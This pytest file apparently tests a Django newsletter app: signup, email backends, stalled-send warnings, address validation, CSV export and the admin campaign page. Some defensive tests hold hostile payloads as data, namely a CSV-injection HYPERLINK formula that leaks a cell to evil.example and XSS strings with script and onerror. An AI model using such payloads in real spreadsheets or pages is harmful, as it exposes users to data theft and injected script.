    context = browser.new_context(
        java_script_enabled=False, viewport={"width": 390, "height": 844}
    )
    page = context.new_page()
    try:
        page.goto(live_server.url + reverse("newsletter:page"))
        form = page.locator("main [data-signup]")
        form.get_by_label("Email address").fill("not-an-address")
        form.get_by_role("button", name="Subscribe").click()
        assert "Enter an email address like" in page.content()
        assert page.locator("main input[type=email]").input_value() == "not-an-address"
        screenshot(page, "newsletter-5-nojs-errors-mobile")
        page.locator("main input[type=email]").fill("nojs@example.org")
        page.locator("main input[type=checkbox]").check()
        page.locator("main").get_by_role("button", name="Subscribe").click()
        assert "Please check your inbox" in page.content()
        assert Subscriber.objects.filter(
            email="nojs@example.org", source="page"
        ).exists()
    finally:
        context.close()


# Any email backend; a stalled send explains itself -------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "backend",
    [
        "django.core.mail.backends.locmem.EmailBackend",
        "django.core.mail.backends.console.EmailBackend",  # what `make run` uses
        "django.core.mail.backends.filebased.EmailBackend",
        "tests.email_backends.ProviderAPIBackend",  # a provider's API: no .connection
    ],
)
def test_campaign_sends_with_every_email_backend(settings, tmp_path, capsys, backend):
    """Each confirmed subscriber gets the campaign once, whatever backend Django is given."""
    from django.core import mail

    from tests import email_backends

    settings.EMAIL_BACKEND = backend
    settings.EMAIL_FILE_PATH = tmp_path / "mail"
    email_backends.sent.clear()
    mail.outbox = []
    campaign, subscribers = _send_to(3, subject="Backend edition")
    run_worker()
    campaign.refresh_from_db()
    assert (
        campaign.status == "sent"
        and campaign.sent_count == 3
        and not campaign.last_error
    )
    written = {
        "django.core.mail.backends.locmem.EmailBackend": lambda: "".join(
            m.message().as_string() for m in mail.outbox
        ),
        "django.core.mail.backends.console.EmailBackend": lambda: (
            capsys.readouterr().out
        ),
        "django.core.mail.backends.filebased.EmailBackend": lambda: "".join(
            p.read_text() for p in (tmp_path / "mail").iterdir()
        ),
        "tests.email_backends.ProviderAPIBackend": lambda: b"".join(
            email_backends.sent
        ).decode(),
    }[backend]()
    for subscriber in subscribers:
        assert written.count(f"To: {subscriber.email}") == 1
    assert written.count("List-Unsubscribe-Post: List-Unsubscribe=One-Click") == 3
    assert (
        "/newsletter/unsubscribe/" in written and "Subject: Backend edition" in written
    )


@pytest.mark.django_db(transaction=True)
def test_a_send_that_keeps_failing_shows_staff_why(client, settings):
    """The backend refuses every message: the campaign list and page say it is not
    progressing, with the last error and the attempts; nothing is lost."""
    settings.EMAIL_BACKEND = "tests.email_backends.FailingAPIBackend"
    campaign, _subscribers = _send_to(2, subject="Stuck edition")
    run_worker()
    campaign.refresh_from_db()
    assert campaign.status == "sending" and campaign.is_stalled
    assert (
        campaign.failing_attempts == 1
        and "401 Unauthorized: API key expired" in campaign.last_error
    )
    assert Delivery.objects.filter(status="pending", attempts=1).count() == 2
    client.force_login(StaffFactory(is_superuser=True))
    listing = client.get(
        reverse("admin:newsletter_campaign_changelist")
    ).content.decode()
    assert (
        "Not progressing" in listing
        and "API key expired" in listing
        and "Attempts without progress: 1." in listing
    )
    page = client.get(
        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
    ).content.decode()
    assert "Not progressing." in page and "API key expired" in page
    assert "Most attempts on one waiting message: 1." in page
    # The backend works again: the next batch sends and the warning goes.
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    Delivery.objects.update(next_attempt_at=timezone.now())
    from django_tasks_db.models import DBTaskResult

    DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())
    run_worker()
    campaign.refresh_from_db()
    assert (
        campaign.status == "sent"
        and campaign.sent_count == 2
        and not campaign.is_stalled
    )


@pytest.mark.django_db
@pytest.mark.parametrize("count", [3, 30])
def test_campaign_changelist_query_count_is_constant(
    client, django_assert_max_num_queries, count
):
    """The status column (progress, not progressing, last error) costs no query per row."""
    for number in range(count):
        CampaignFactory(
            status="sending",
            sent_at=None,
            failing_attempts=number % 2,
            last_error="451 busy",
        )
    client.force_login(StaffFactory(is_superuser=True))
    with django_assert_max_num_queries(9):
        html = client.get(
            reverse("admin:newsletter_campaign_changelist")
        ).content.decode()
    assert html.count("Not progressing") >= count // 2


@pytest.mark.django_db
def test_a_send_with_no_worker_is_shown_as_not_progressing(client, time_machine):
    """Nothing went out ten minutes after "Send" (no worker running): staff are told."""
    campaign, _subscribers = _send_to(1)
    campaign.refresh_from_db()
    assert not campaign.is_stalled
    time_machine.move_to(timezone.now() + timedelta(minutes=11))
    assert campaign.is_stalled
    client.force_login(StaffFactory(is_superuser=True))
    page = client.get(
        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
    ).content.decode()
    assert "Not progressing." in page and "manage.py db_worker" in page


# No email inside a visitor's request ------------------------------------------------


@pytest.fixture
def hanging_smtp(settings):
    from tests.servers import HangingSMTPServer

    server = HangingSMTPServer()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = (
        "127.0.0.1",
        server.port,
        20,
    )
    yield server
    server.stop()


@pytest.mark.django_db
def test_signup_does_not_wait_for_a_hanging_mail_server(client, hanging_smtp):
    """The mail server accepts and never answers: the signup still answers at once,
    the address is stored and its confirmation waits in the task queue."""
    import time

    from django_tasks_db.models import DBTaskResult

    started = time.monotonic()
    response = signup(client, "patient@example.org")
    assert time.monotonic() - started < 2
    assert (
        response.status_code == 200
        and "Please check your inbox" in response.content.decode()
    )
    assert Subscriber.objects.filter(
        email="patient@example.org", status="pending"
    ).exists()
    assert (
        DBTaskResult.objects.filter(
            task_path="newsletter.tasks.send_confirmation", status="READY"
        ).count()
        == 1
    )
    assert hanging_smtp.connections == []  # nobody even tried to connect


def test_tasks_do_not_import_services():
    """services → tasks → sending/emails → models: no import circle."""
    import ast
    from pathlib import Path

    import newsletter.tasks

    tree = ast.parse(Path(newsletter.tasks.__file__).read_text())
    imported = {
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
        for alias in node.names
    }
    imported |= {
        node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
    }
    assert "services" not in imported and "newsletter.services" not in imported


# One address rule -------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("email", ["dara@", "dara@.", "@example.org"])
def test_an_address_cut_short_gets_the_plain_example(client, email):
    """An address missing its domain is just incomplete: the answer shows what an
    address looks like, not a rule about localhost and IP addresses."""
    html = signup(client, email).content.decode()
    assert "Enter an email address like name@example.org." in html
    assert "not localhost or an IP address" not in html
    assert not Subscriber.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("email", "message"),
    [
        ("x@localhost", "not localhost or an IP address"),
        ("x@[127.0.0.1]", "not localhost or an IP address"),
        ('"<script>alert(1)</script>"@example.org', "without quotation marks"),
        ('"<b>x</b>"@example.org', "without quotation marks"),
        ("x@example", "not localhost or an IP address"),
    ],
)
def test_signup_refuses_addresses_mail_cannot_reach(client, mailoutbox, email, message):
    """Django's validator accepts these; the signup refuses them, says why, keeps the input."""
    response = signup(client, email, name="Kim")
    html = response.content.decode()
    assert response.status_code == 200 and message in html
    assert "<script>alert(1)</script>" not in html and 'value="Kim"' in html
    assert not Subscriber.objects.exists()


@pytest.mark.django_db
def test_csv_import_and_test_send_use_the_same_address_rule(client, mailoutbox):
    client.force_login(StaffFactory(is_superuser=True, email="manager@example.org"))
    response = _import(
        client,
        b'email,consent_source\nx@localhost,Paper form\n"""<b>""@example.org",Paper form\n',
    )
    html = response.content.decode()
    assert (
        response.status_code == 400
        and "not localhost" in html
        and "without quotation marks" in html
    )
    assert not Subscriber.objects.exists()
    campaign = CampaignFactory()
    page = client.post(
        reverse("admin:newsletter_campaign_send_test", args=[campaign.pk]),
        {"email": "x@[127.0.0.1]"},
        follow=True,
    )
    assert "No test sent" in page.content.decode() and not mailoutbox


# CSV export ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_csv_export_neutralises_formulas(client):
    """OWASP CSV injection: cells starting with = + - @ tab or CR are exported as text."""
    import csv
    import io

    names = [
        '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
        "+SUM(1+1)",
        "-2+3",
        "@SUM(1)",
        "\tTab",
        "\rReturn",
    ]
    for number, name in enumerate(names):
        SubscriberFactory(email=f"formula{number}@example.org", name=name)
    SubscriberFactory(email="plain@example.org", name="Dara Sok")
    client.force_login(StaffFactory(groups=["Newsletter managers"]))
    body = b"".join(
        client.get(reverse("admin:newsletter_subscriber_export")).streaming_content
    ).decode()
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
    for number, name in enumerate(names):
        assert rows[f"formula{number}@example.org"]["name"] == "'" + name
    assert rows["plain@example.org"]["name"] == "Dara Sok"
    assert rows["plain@example.org"]["status"] == "subscribed"


# Emails without iframes ----------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_campaign_email_has_no_iframe_and_nothing_from_inside_one(
    smtp_server, settings
):
    """A video becomes a link to its page; what hid inside the iframe is gone."""
    body = (
        "<p>Watch this.</p>"
        '<p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="COMMIT 10 years">'
        "<img src=x onerror=alert(1)></iframe></p>"
    )
    campaign, _subscribers = _send_to(1, body=body)
    # As stored before the sanitiser emptied iframes (rows saved then still hold it).
    Campaign.objects.filter(pk=campaign.pk).update(body=body)
    run_worker()
    message = smtp_server.messages[0]["message"]
    html, text = message.get_body(("html",)).get_content(), text_part(message)
    for part in (html, text):
        assert (
            "iframe" not in part.lower()
            and "onerror" not in part
            and "src=x" not in part
        )
        assert "https://www.youtube.com/watch?v=dQw4w9WgXcQ" in part
    assert "Watch the video: COMMIT 10 years" in html
    # A linked thumbnail from this site (never the video site's: opening the email
    # asks nothing of YouTube), then the same link as text.
    picture = re.search(
        r'<a [^>]*href="([^"]+)"><img [^>]*src="([^"]+)"\s+alt="([^"]+)"', html
    )
    assert picture, html
    assert picture.group(1) == "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
    assert picture.group(2).startswith(settings.SITE_URL + "/static/img/email-video")
    assert picture.group(3) == "Watch the video: COMMIT 10 years"
    assert "ytimg" not in html and "youtube-nocookie" not in html


# Pages: message pages, HEAD -------------------------------------------------------------


@pytest.mark.django_db
def test_message_pages_do_not_offer_the_footer_form(client):
    """Confirm, confirmed, unsubscribe and left pages: noindex, and no footer "Subscribe"."""
    pending = SubscriberFactory(status="pending")
    member = SubscriberFactory()
    confirm_url = reverse("newsletter:confirm", args=[confirmation_token(pending)])
    unsubscribe_url = reverse(
        "newsletter:unsubscribe", args=[unsubscribe_token(member.pk)]
    )
    pages = [client.get(confirm_url), client.post(confirm_url), client.get(unsubscribe_url), client.post(unsubscribe_url),
             client.get(reverse("newsletter:confirm", args=["broken"]))]  # fmt: skip
    assert "Subscription confirmed" in pages[1].content.decode()
    for response in pages:
        html = response.content.decode()
        assert (
            'id="footer-signup-heading"' not in html
            and 'name="robots" content="noindex"' in html
        )
        assert 'rel="canonical"' not in html


@pytest.mark.django_db
def test_head_answers_like_get(client):
    campaign = CampaignFactory(status="sent", sent_at=timezone.now())
    member = SubscriberFactory()
    for url in [reverse("newsletter:page"), reverse("newsletter:archive"), campaign.get_absolute_url(),
                reverse("newsletter:unsubscribe", args=[unsubscribe_token(member.pk)])]:  # fmt: skip
        get, head = client.get(url), client.head(url)
        assert head.status_code == get.status_code == 200, url
        assert head.content == b"" and head["Content-Type"] == get["Content-Type"]
    member.refresh_from_db()
    assert member.status == "subscribed"


# Demo content ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_demo_archive_holds_the_2016_editions_as_sent(client):
    from io import StringIO

    from django.core.management import call_command

    call_command("load_demo", "--no-admin", stdout=StringIO())
    html = client.get(reverse("newsletter:archive")).content.decode()
    assert (
        "UN-ACT April 2016 Newsletter" in html
        and "UN-ACT January 2016 Newsletter" in html
    )
    assert "demo edition" not in html.lower()
    for campaign in Campaign.objects.all():
        assert (
            campaign.status == "sent"
            and campaign.recipient_count == campaign.sent_count == 3
        )
        assert campaign.sent_at.year == 2016
        page = client.get(campaign.get_absolute_url())
        assert page.status_code == 200
        for href in re.findall(
            r'href="(/(?:posts|publications)/[^"]+)"', campaign.body
        ):
            assert client.get(href).status_code == 200, href
    call_command("load_demo", "--no-admin", stdout=StringIO())
    assert Campaign.objects.count() == 2 and Delivery.objects.count() == 6


# The campaign's own page ------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_campaign_page_sends_a_test_and_sends_then_shows_progress_read_only(
    client, smtp_server
):
    SubscriberFactory.create_batch(2)
    client.force_login(StaffFactory(is_superuser=True, email="manager@example.org"))
    campaign = CampaignFactory(
        subject="June edition", body="<p>Hello <strong>readers</strong>.</p>"
    )
    change_url = reverse("admin:newsletter_campaign_change", args=[campaign.pk])
    page = client.get(change_url).content.decode()
    test_url = reverse("admin:newsletter_campaign_send_test", args=[campaign.pk])
    assert f'action="{test_url}"' in page and 'value="manager@example.org"' in page
    assert reverse("admin:newsletter_campaign_send", args=[campaign.pk]) in page
    client.post(test_url, {"email": "manager@example.org"})
    client.post(test_url, {"email": "Colleague@Example.org"})
    assert [m["to"] for m in smtp_server.messages] == [
        ["manager@example.org"],
        ["Colleague@Example.org"],
    ]
    assert all(
        m["message"]["Subject"] == "[Test] June edition" for m in smtp_server.messages
    )
    assert client.get(test_url).status_code == 405
    client.post(
        reverse("admin:newsletter_campaign_send", args=[campaign.pk]),
        {"confirm": "yes"},
    )
    page = client.get(change_url).content.decode()
    assert "<progress" in page and "remaining 2 of 2" in page
    assert 'name="_save"' not in page and 'name="_continue"' not in page  # read-only
    assert "&lt;p&gt;" not in page and "Hello <strong>readers</strong>." in page
    assert test_url not in page
    # A POST to the change page cannot edit it either.
    client.post(
        change_url, {"subject": "Changed", "slug": campaign.slug, "body": "<p>x</p>"}
    )
    campaign.refresh_from_db()
    assert campaign.subject == "June edition"
